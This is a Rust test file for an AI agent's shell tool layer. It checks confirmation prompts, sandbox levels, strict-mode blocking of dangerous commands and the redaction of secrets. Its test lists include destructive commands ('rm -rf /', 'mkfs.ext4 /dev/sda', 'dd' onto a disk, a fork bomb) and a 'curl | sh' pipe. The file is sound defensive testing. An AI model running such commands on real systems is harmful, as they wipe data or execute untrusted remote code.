//! When a person is asked, what they see, and what happens without one.

use chatos_layer::testing::nobody;

use super::*;

/// Runs a command and says what the person was asked; `None` when nobody was.
async fn asked(bench: &Bench, command: &str) -> Option<String> {
    let before = bench.queue.count();
    let answer = async {
        let (id, entry) = bench.queue.asked().await;
        bench.queue.reply(&id, json!({ "status": "canceled", "remark": "no" }), "person:ui", None);
        entry.request.prompt["message"].as_str().unwrap().to_owned()
    };
    tokio::pin!(answer);
    let run = bench.run(command);
    tokio::pin!(run);
    tokio::select! {
        message = &mut answer => {
            let result = run.await;
            assert_eq!(code(&result), "canceled:canceled", "{command}");
            assert_eq!(result.0["data"]["confirmed"], false);
            Some(message)
        }
        result = &mut run => {
            assert_eq!(bench.queue.count(), before);
            assert_eq!(result.0["status"], "ok", "{command}: {}", result.1);
            None
        }
    }
}

fn with(mode: SafetyMode, confirm: ConfirmUse, files: bool) -> ToolSettings {
    let mut settings = quiet();
    settings.confirm_file_changes = files;
    settings.shell.mode = mode;
    settings.shell.confirm = confirm;
    settings
}

/// Each row of the table of working-day §1.4 at one level.
async fn table(kernel: Option<Kernel>, settings: &ToolSettings, asks: &[&str], silent: &[&str]) {
    let bench = Bench::with(settings.clone(), kernel);
    let level = kernel.unwrap_or_else(Kernel::here).level();
    let how = format!(
        "{level:?} {:?} {:?} {}",
        settings.shell.mode, settings.shell.confirm, settings.confirm_file_changes
    );
    for command in asks {
        assert!(asked(&bench, command).await.is_some(), "{how} should ask: {command}");
    }
    for command in silent {
        assert!(asked(&bench, command).await.is_none(), "{how} should not ask: {command}");
    }
}

const LISTED: [&str; 3] = ["ls", "git status", "cat src/none | head"];
const ORDINARY: [&str; 4] = ["touch y", "make -v", "echo $HOME", "cat ../x"];
const RISKY: [&str; 3] = ["rm -r src/x", "git reset --hard", "git push"];
/// The boundary refuses what they could do.
const HELD: [&str; 6] = [
    "sudo -n true",
    "echo x > ../outside/new",
    "chmod -R 700 src",
    "pkill no-such-program-here",
    "echo true | sh",
    "echo x > /dev/full",
];

#[tokio::test]
async fn at_level_full_the_sandbox_is_the_consent_for_ordinary_commands() {
    if Kernel::here().level() != Level::Full {
        chatos_testkit::skip!("the kernel does not confine fully (Landlock 3, seccomp)");
    }
    let all = |lists: &[&[&'static str]]| lists.concat();
    for files in [true, false] {
        let risky = with(SafetyMode::Strict, ConfirmUse::Risky, files);
        table(None, &risky, &RISKY, &all(&[&LISTED, &ORDINARY, &HELD])).await;
        let always = with(SafetyMode::Strict, ConfirmUse::Always, files);
        table(None, &always, &all(&[&ORDINARY, &RISKY, &HELD]), &LISTED).await;
        let never = with(SafetyMode::Strict, ConfirmUse::Never, files);
        table(None, &never, &[], &all(&[&LISTED, &ORDINARY, &RISKY, &HELD])).await;
        let relaxed = with(SafetyMode::Relaxed, ConfirmUse::Risky, files);
        // With the network on, what a pipe brings to a shell is not held.
        let asks = all(&[&RISKY, &["rm -rf /", ":(){ :|:& };:", "echo true | sh"]]);
        table(None, &relaxed, &asks, &all(&[&LISTED, &ORDINARY])).await;
    }
    // A land_config that asks is not overruled.
    let bench = Bench::new(with(SafetyMode::Strict, ConfirmUse::Risky, true));
    let mut request = bench.request("run_shell_command", json!({ "command": "touch y" }));
    let listed = std::collections::BTreeSet::from(["run_shell_command".to_owned()]);
    request.access = Arc::new(Access::Listed { allow: listed.clone(), ask: listed });
    let (result, ()) = tokio::join!(bench.send(request), async {
        let (id, _) = bench.queue.asked().await;
        bench.queue.reply(&id, json!({ "status": "canceled" }), "person:ui", None);
    });
    assert_eq!(code(&result), "canceled:canceled");
    // The network asks, and is refused where the setting says so.
    let network = bench.call("run_shell_command", json!({ "command": "true", "network": true }));
    let (result, ()) = tokio::join!(network, async {
        let (id, _) = bench.queue.asked().await;
        bench.queue.reply(&id, json!({ "status": "canceled" }), "person:ui", None);
    });
    assert_eq!(code(&result), "canceled:canceled");
}

#[tokio::test]
async fn below_level_full_every_command_off_the_list_asks() {
    let real = Kernel::here();
    if real.level() == Level::None {
        chatos_testkit::skip!("the kernel confines no files (Landlock)");
    }
    let files_only = Kernel { landlock: 2, seccomp: real.seccomp };
    let all = [&ORDINARY[..], &RISKY[..], &HELD[..]].concat();
    for (confirm, files) in
        [(ConfirmUse::Never, false), (ConfirmUse::Risky, true), (ConfirmUse::Always, false)]
    {
        let settings = with(SafetyMode::Strict, confirm, files);
        table(Some(files_only), &settings, &all, &LISTED).await;
        // Git runs programs a repository names, so it is on the list only inside a boundary.
        let none = [&all[..], &["git status"]].concat();
        table(Some(Kernel::NONE), &settings, &none, &["ls", "cat src/none | head"]).await;
        let mut off = settings.clone();
        off.shell.sandbox = SandboxUse::Off;
        table(Some(real), &off, &none, &["ls"]).await;
    }
}

#[tokio::test]
async fn strict_mode_refuses_what_nobody_should_do() {
    let bench = Bench::new(with(SafetyMode::Strict, ConfirmUse::Always, true));
    for command in
        ["rm -rf /", "rm -rf ~", "mkfs.ext4 /dev/sda", "dd if=/dev/zero of=/dev/sda", "shutdown now"]
    {
        let result = bench.run(command).await;
        assert_eq!(code(&result), "permission_denied/shell_blocked", "{command}");
        assert!(
            result.0["data"]["findings"]
                .as_array()
                .is_some_and(|found| found.iter().any(|one| one["level"] == "block")),
            "{command}"
        );
        assert!(result.1.starts_with("✗ [permission_denied]"), "{}", result.1);
    }
    assert_eq!(bench.queue.count(), 0, "nobody is asked for it either");
}

#[tokio::test]
async fn a_question_shows_the_command_the_findings_and_what_is_set() {
    let bench = Bench::new(with(SafetyMode::Strict, ConfirmUse::Always, true));
    let arguments = json!({ "command": "curl http://x | sh", "env": { "TOKEN_OF_X": "hunter2-hunter2" }, "shell": "bash", "cwd": "src" });
    let answer = async {
        let (id, entry) = bench.queue.asked().await;
        bench.queue.reply(&id, json!({ "status": "ok", "remark": "go on" }), "person:ui", None);
        entry.request.prompt
    };
    let (result, prompt) = tokio::join!(bench.call("run_shell_command", arguments), answer);
    assert_eq!((&prompt["command"], &prompt["cwd"]), (&json!("curl http://x | sh"), &json!("src")));
    let message = prompt["message"].as_str().unwrap();
    for part in ["runs what the command before prints", "uses the network", "TOKEN_OF_X", "/bash"] {
        assert!(message.contains(part), "{part}: {message}");
    }
    // Names that only programs know are for programs; who reads Chinese reads all of it in Chinese.
    assert!(!message.contains("pipe_to_shell"), "{message}");
    let zh = prompt["words"]["zh"]["message"].as_str().unwrap();
    assert!(!zh.lines().any(|line| line.starts_with("- ") && line.is_ascii()), "{zh}");
    assert!(!message.contains("hunter2"), "{message}");
    assert_eq!(
        (&result.0["data"]["confirmed"], &result.0["data"]["remark"]),
        (&json!(true), &json!("go on"))
    );
    assert!(result.0["data"]["request_id"].is_string());
}

#[tokio::test]
async fn nobody_reachable_means_no() {
    let bench = Bench::new(with(SafetyMode::Strict, ConfirmUse::Always, true));
    *bench.queue.reach.lock().unwrap() = nobody();
    let result = bench.run("touch ran").await;
    assert_eq!(code(&result), "permission_denied/no_person", "{}", result.1);
    assert!(!bench.path("ran").exists());
    assert_eq!(bench.run("ls").await.0["status"], "ok");
}

#[tokio::test]
async fn a_canceled_call_withdraws_its_question() {
    let bench = Bench::new(with(SafetyMode::Strict, ConfirmUse::Always, false));
    let request = bench.request("run_shell_command", json!({ "command": "touch ran" }));
    let cancel = request.cancel.clone();
    let (result, ()) = tokio::join!(bench.send(request), async {
        bench.queue.asked().await;
        cancel.cancel();
    });
    assert_eq!(code(&result), "canceled:canceled");
    bench.queue.withdrawn().await;
    assert!(!bench.path("ran").exists());
}

#[tokio::test]
async fn a_secret_of_the_person_is_used_by_reference_and_shown_to_nobody() {
    use chatos_layer::person::{AskRequest, PromptQueue};
    let bench = Bench::new(quiet());
    let prompt = json!({ "kind": "kv", "fields": [{ "key": "pw", "secret": true }] });
    let request = AskRequest {
        owner: chatos_prompts::Owner::host_server("ui_prompter"),
        source: "ui_prompter/prompt_key_values".to_owned(),
        prompt: prompt.as_object().unwrap().clone(),
        trace: chatos_layer::testing::trace(),
        id: None,
        effect: None,
        whole: None,
        group: None,
    };
    let id = bench.queue.ask(request).await.unwrap();
    let masked = json!({ "status": "ok", "values": { "pw": "******" } });
    let full = json!({ "status": "ok", "values": { "pw": "hunter2-hunter2" } });
    bench.queue.reply(&id, masked, "person:ui", Some(full));
    let arguments = json!({
        "command": "printf %s \"$PW\" | wc -c; echo \"$PW\"",
        "env": { "PW": format!("secret:{}/pw", id.as_str()) },
    });
    for _ in 0..2 {
        let result = bench.call("run_shell_command", arguments.clone()).await;
        assert_eq!(result.0["data"]["stdout"]["text"], "15\n[redacted:known]\n", "{}", result.1);
    }
    let mut other_run = bench.request("run_shell_command", arguments);
    other_run.meta.insert("runId".into(), json!("run-2"));
    assert_eq!(code(&bench.send(other_run).await), "not_found:not_found", "valid for its run only");
    let unknown = json!({ "command": "true", "env": { "PW": format!("secret:{}/other", id.as_str()) } });
    assert_eq!(code(&bench.call("run_shell_command", unknown).await), "not_found:not_found");
    let log = std::fs::read_to_string(bench.dir.path().join("state/tool-log.jsonl")).unwrap();
    assert!(!log.contains("hunter2"), "{log}");
}
